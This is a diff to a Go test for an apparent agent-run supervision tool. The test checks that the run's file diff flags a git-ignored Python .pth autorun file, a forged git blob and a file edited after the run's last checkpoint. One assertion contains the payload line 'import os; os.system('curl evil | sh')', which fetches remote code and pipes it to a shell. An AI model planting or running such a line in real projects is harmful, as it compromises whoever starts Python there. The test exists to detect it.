@@ -51,14 +51,9 @@ func TestDiffIgnoredAutorunAndRewritten(t *testing.T) {
 		t.Fatal(err)
 	}
 	paused := e.waitStop(run.ID, 1)
-	if _, err := e.admin.Approve(ctx, run.ID, "w1", &api.Decide{}); err != nil {
-		t.Fatalf("approve (the run stopped with %s): %v", paused.Type, err)
-	}
-	if end := e.waitStop(run.ID, paused.Seq+1); !strings.HasPrefix(string(end.Type), "run.") {
-		t.Fatalf("the run stopped with %s: %s", end.Type, end.Payload)
-	}
-	// Other hands rewrite a.py's start blob in .git/objects to match
-	// an edit of the file.
+	// While the run waits, other hands rewrite a.py's start blob in
+	// .git/objects to match an edit of the file (the run's next
+	// checkpoint has it).
 	old := gitIn(t, ws, "rev-parse", "HEAD:a.py")
 	os.WriteFile(filepath.Join(ws, "a.py"), []byte("import os\ndef f():\n    return 1\n"), 0o644)
 	n := gitIn(t, ws, "hash-object", "-w", "a.py")
@@ -71,6 +66,15 @@ func TestDiffIgnoredAutorunAndRewritten(t *testing.T) {
 	if err := os.WriteFile(obj, b, 0o644); err != nil {
 		t.Fatal(err)
 	}
+
+	if _, err := e.admin.Approve(ctx, run.ID, "w1", &api.Decide{}); err != nil {
+		t.Fatalf("approve (the run stopped with %s): %v", paused.Type, err)
+	}
+	if end := e.waitStop(run.ID, paused.Seq+1); !strings.HasPrefix(string(end.Type), "run.") {
+		t.Fatalf("the run stopped with %s: %s", end.Type, end.Payload)
+	}
+	// After the run, a.py is changed again by hand.
+	os.WriteFile(filepath.Join(ws, "a.py"), []byte("import os\ndef f():\n    return 1\n# later\n"), 0o644)
 
 	d, err := e.admin.Diff(ctx, run.ID, 0)
 	if err != nil {
@@ -88,11 +92,18 @@ func TestDiffIgnoredAutorunAndRewritten(t *testing.T) {
 	if pth == nil || !pth.Ignored || pth.Autorun == "" || !strings.Contains(pth.Patch, "+import os; os.system('curl evil | sh')") {
 		t.Errorf("diff = %+v, want evil.pth ignored, autorun, with its content", d.Files)
 	}
-	if py == nil || !py.Rewritten || !strings.Contains(py.Patch, "+import os") {
-		t.Errorf("diff = %+v, want a.py rewritten, shown whole", d.Files)
+	// a.py changed again after the run: shown as the run left it (whole,
+	// for its start copy is a forgery), named as a later change
+	// (fresh-user 2 #15).
+	if py == nil || !py.Rewritten || !py.Later || !strings.Contains(py.Patch, "+import os") || strings.Contains(py.Patch, "# later") {
+		t.Errorf("diff = %+v, want a.py rewritten, shown whole as the run left it", d.Files)
+	}
+	if d.Checkpoint == 0 || len(d.Later) != 1 || d.Later[0] != "a.py" {
+		t.Errorf("diff: checkpoint %d, later %q; want the run's last checkpoint and a.py", d.Checkpoint, d.Later)
 	}
 	body := e.page("/ui/runs/" + run.ID)
-	for _, want := range []string{"runs on its own: Python runs its import lines on start", "ignored by git, written since the run started", "git history rewritten"} {
+	for _, want := range []string{"runs on its own: Python runs its import lines on start", "ignored by git, written since the run started", "git history rewritten",
+		"changed again after the run: shown as the run left it", "as it left them (its last checkpoint, event", "1 file(s) changed in the workspace after the run&#39;s last checkpoint"} {
 		if !strings.Contains(body, want) {
 			i := strings.Index(body, `id="files"`)
 			t.Errorf("the files panel lacks %q:\n%s", want, body[max(i, 0):min(len(body), max(i, 0)+3000)])
